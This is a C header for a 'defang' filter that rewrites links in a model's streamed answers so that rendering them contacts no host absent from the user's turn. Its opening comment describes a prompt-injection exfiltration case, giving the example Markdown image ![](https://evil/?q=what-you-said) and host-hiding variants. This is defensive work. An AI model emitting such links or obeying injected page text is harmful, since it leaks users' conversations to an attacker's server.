/* defang: links in an answer, rewritten so that showing it fetches nothing from a host that did not
 * stand in the question.
 *
 * A page that a model read can ask it to write ![](https://evil/?q=what-you-said), and whatever
 * shows Markdown fetches that by itself (CVE-2025-32711).  Here https://evil becomes hxxps://evil
 * wherever it stands, and a destination that hides its host (//evil, https:&#47;/evil, a backslash)
 * becomes a fragment: ](#//evil).  The text stays readable; code that names a new host is changed
 * as well, which is why this is a choice of the config.  What is only clicked is defanged too.
 *
 * With `keep` nothing is rewritten.  Either way it is told of each byte whether it stands in such a
 * link: what is put back into an answer (mask.h) must not be put into one.
 *
 * One per stream of text.  Invariant: at most DEFANG_HOLD_MAX bytes are held back. */
#pragma once
#include "base/str.h"

enum { DEFANG_HOLD_MAX = 320 }; /* a scheme and a host of 253, with room for a port and a user */

struct defang_spec {
    bool keep;
    /* Did this host, as it stands in the link, stand in the turn? */
    bool (*knows)(void *owner, struct slice host);
    /* The next byte; foreign: it stands in a link to a host that did not. */
    void (*told)(void *owner, char c, bool foreign);
    void *owner;
};

struct defang {
    struct defang_spec spec;
    enum defang_mode { DEFANG_TEXT, DEFANG_SPACE, DEFANG_DEST, DEFANG_HOST } mode;
    bool foreign;    /* within such a link */
    char ends;       /* it does, at this one; 0: at a space and the like */
    bool hidden;     /* DEFANG_HOST: behind // alone */
    size_t n_scheme; /* DEFANG_HOST: so many of held are no host yet */
    char held[DEFANG_HOLD_MAX];
    size_t n_held;
    char tail[8]; /* what was told last, in lower case */
};
void defang_init(struct defang *d, const struct defang_spec *spec);
void defang_text(struct defang *d, struct slice piece);
void defang_end(struct defang *d);
/* For `knows`: does the host stand in this text, as a whole, in any case? */
bool defang_stands(struct slice text, struct slice host);
